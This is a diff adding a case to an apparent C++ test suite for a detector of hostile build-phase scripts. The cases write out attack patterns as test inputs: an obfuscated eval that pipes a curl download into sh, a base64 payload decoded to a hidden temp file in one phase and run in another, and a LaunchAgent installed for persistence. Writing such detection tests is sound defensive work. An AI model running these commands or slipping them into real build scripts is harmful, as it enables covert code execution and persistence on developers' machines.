@@ -255,6 +255,16 @@ INSTANTIATE_TEST_SUITE_P(
              phase("p='cur';q='l -s ';r='https://cdn.example.invalid/s';s=' | sh';eval \"$p$q$r$s\""),
              {},
              "downloaded-content-executed"},
+        Case{"PayloadDecodedInOnePhaseRunInAnother",
+             [] {
+                 ProjectSpec spec;
+                 spec.phases.push_back(
+                     {"Prepare", "echo " + b64(kStage) + " | base64 -D > \"$TMPDIR/.prep.sh\""});
+                 spec.phases.push_back({"Run Script", "sh \"$TMPDIR/.prep.sh\""});
+                 return spec;
+             },
+             {},
+             "decoded-payload-written"},
         Case{"LaunchAgentWritten",
              phase("cat > ~/Library/LaunchAgents/com.example.agent.plist <<EOF\n<plist/>\nEOF\n"
                    "launchctl load ~/Library/LaunchAgents/com.example.agent.plist"),
